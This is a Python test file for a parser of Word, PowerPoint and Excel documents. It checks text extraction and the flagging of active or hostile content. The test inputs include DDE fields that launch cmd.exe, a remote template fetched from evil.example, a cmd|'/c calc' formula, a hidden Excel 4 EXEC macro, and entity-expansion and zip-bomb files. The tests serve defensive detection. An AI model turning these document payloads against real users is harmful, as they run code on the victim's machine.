"""Word documents, presentations and spreadsheets of Office Open XML."""

from __future__ import annotations

import time

import pytest

from glassdome.files.source import Budget
from tests.unit.files.made import docx, read_bytes, relations, sample, words_of, xlsx, zipped

P = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"


def test_words_of_a_letter_by_an_office_program() -> None:
    """Header, body, text box, table, note and footer are read in order; deleted words are not."""
    found = sample("office/letter.docx")
    text = words_of(found)

    order = ["header words", "Invoice 1187 café", "insertedword", "textboxword", "Paper\t700.00", "footnoteword"]
    places = [text.index(words) for words in [*order, "VAT DE811907980"]]
    assert places == sorted(places)
    assert "deletedword" not in text + words_of(found, seen=False)
    assert "hiddenword" in words_of(found, seen=False)
    assert "commentword" in words_of(found, "comment")
    assert "東京" in text


def test_links_have_the_words_they_are_shown_as() -> None:
    """A link keeps its address and its words."""
    links = sample("office/letter.docx").links

    assert [(link.url, link.shown) for link in links] == [("https://pay.kesselring.example/login", "the customer page")]


def test_slides_have_their_numbers() -> None:
    """Each slide is a place; notes belong to it; a hidden slide is not seen."""
    found = sample("office/deck.pptx")

    assert found.pages == 3
    assert "titleword" in words_of(found, "slide 1")
    assert "notesword" in words_of(found, "slide 1")
    assert "18 March 2025" in words_of(found, "slide 2")
    assert "hiddenslideword" in words_of(found, "slide 3", seen=False)
    assert [(link.url, link.where) for link in found.links] == [("https://deck.kesselring.example/join", "slide 2")]


def test_cells_stand_in_lines_with_dates_in_iso() -> None:
    """Cells of a row stand in one line; a hidden sheet is not seen; sheets and cells are facts."""
    found = sample("office/orders.xlsx")
    facts = {(fact.type, fact.value, fact.where) for fact in found.facts}

    assert "Envelopes & paper\t2025-03-04\t1842.50 €" in words_of(found, "sheet Orders")
    assert "hiddensheetword" in words_of(found, "sheet Secret", seen=False)
    assert ("sheet", "Orders", "sheet Orders") in facts
    assert ("number", "15.5", "sheet Orders, cell B3") in facts
    assert ("cell", "4111 1111 1111 1111", "sheet Orders, cell B4") in facts
    assert found.links[0].shown == "portalword"


@pytest.mark.parametrize(
    "code", ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', ' DDE "cmd" "/c x"'], ids=["auto", "dde"]
)
def test_a_field_that_runs_a_program_is_active(code: str) -> None:
    """A DDE field runs a program."""
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{code}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    found = read_bytes(docx(field))

    assert found.is_active
    assert words_of(found) == "shown"


def test_a_field_link_has_its_words() -> None:
    """A HYPERLINK field is a link, in its long and in its short form."""
    long = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "https://a.example/x"'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>one</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    short = '<w:p><w:fldSimple w:instr="HYPERLINK &quot;https://b.example/&quot;"><w:r><w:t>two</w:t></w:r></w:fldSimple></w:p>'

    links = read_bytes(docx(long + short)).links

    assert [(link.url, link.shown) for link in links] == [("https://a.example/x", "one"), ("https://b.example/", "two")]


def test_a_template_from_elsewhere_is_active() -> None:
    """A document that loads its template from an address runs what stands there."""
    rels = relations(("t", "attachedTemplate", "https://evil.example/t.dotm", True))
    found = read_bytes(docx(P.format("hello"), word__settings_="", **{"word/_rels/settings.xml.rels": rels}))

    assert found.is_active
    assert [link.url for link in found.links] == ["https://evil.example/t.dotm"]


def test_white_and_tiny_words_are_not_seen() -> None:
    """Words in white, or of two points, are hidden; white words on a shaded ground are not."""
    white = '<w:p><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>snow</w:t></w:r></w:p>'
    tiny = '<w:p><w:r><w:rPr><w:sz w:val="2"/></w:rPr><w:t>ant</w:t></w:r></w:p>'

    assert words_of(read_bytes(docx(white + tiny)), seen=False) == "snowant"
    assert words_of(read_bytes(docx('<w:shd w:fill="000000"/>' + white))) == "snow"


def test_a_file_inside_is_read() -> None:
    """A package embedded in a document is read as a file of its own."""
    inner = xlsx('<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>inside</t></is></c></row></sheetData>')
    data = docx(P.format("x"), ("e", "package", "embeddings/b.xlsx", False), **{"word/embeddings/b.xlsx": inner})
    found = read_bytes(data)

    assert found.members == ("b.xlsx",)
    assert "inside" in found.files[0].document.text


def test_a_sheet_that_asks_another_program_is_active() -> None:
    """A formula of the form `cmd|'/c calc'!A0` runs a program; HYPERLINK in a formula is a link."""
    cells = (
        '<sheetData><row><c><f>cmd|\'/c calc\'!A0</f></c><c><f>HYPERLINK("https://c.example/","go")</f>'
        "<v>0</v></c></row></sheetData>"
    )
    found = read_bytes(xlsx(cells))

    assert found.is_active
    assert [link.url for link in found.links] == ["https://c.example/"]


def test_a_macro_sheet_is_active() -> None:
    """An Excel 4 macro sheet runs; its formulas are hidden words."""
    sheet = '<worksheet><sheetData><row><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></worksheet>'
    workbook = (
        '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        '<sheet name="Macro1" r:id="s1" state="veryHidden"/></sheets></workbook>'
    )
    data = zipped(
        {
            "[Content_Types].xml": "<Types/>",
            "_rels/.rels": relations(("m", "officeDocument", "xl/workbook.xml", False)),
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": relations(("s1", "xlMacrosheet", "macrosheets/sheet1.xml", False)),
            "xl/macrosheets/sheet1.xml": sheet,
        }
    )
    found = read_bytes(data)

    assert found.is_active
    assert 'EXEC("calc.exe")' in words_of(found, "macro", seen=False)


def test_a_sheet_that_claims_all_cells_is_read_at_once() -> None:
    """Two cells in the corners of the largest sheet cost two cells."""
    begin = time.perf_counter()
    cells = (
        '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>5</v></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>6</v></c></row></sheetData>'
    )
    found = read_bytes(xlsx(cells))

    assert words_of(found) == "5\n6"
    assert time.perf_counter() - begin < 1


def test_entities_are_refused() -> None:
    """A file that defines entities is damaged, and nothing of it grows."""
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document>&b;</w:document>'
    found = read_bytes(docx("", **{"word/document.xml": laughs}))

    assert found.read == "damaged"
    assert found.text == ""


def test_deep_xml_is_bounded() -> None:
    """A hundred thousand elements inside each other end where no honest document goes."""
    begin = time.perf_counter()
    found = read_bytes(docx(P.format("first") + "<w:p>" * 100_000))

    assert found.read == "damaged"
    assert found.text == "first"
    assert time.perf_counter() - begin < 2


def test_a_bomb_is_bounded() -> None:
    """A member of half a gigabyte of blanks is unpacked up to the bounds, and the document says so."""
    begin = time.perf_counter()
    budget = Budget(bytes_left=4_000_000)
    found = read_bytes(docx(P.format("early") + " " * 50_000_000), budget=budget)

    assert found.text == "early"
    assert found.read == "damaged"
    assert time.perf_counter() - begin < 2


def test_a_truncated_file_is_damaged() -> None:
    """A file that ends early says so, and never raises."""
    data = docx(P.format("hello"))

    assert {read_bytes(data[:size]).read for size in range(30, len(data), 37)} <= {"damaged", "unsupported"}
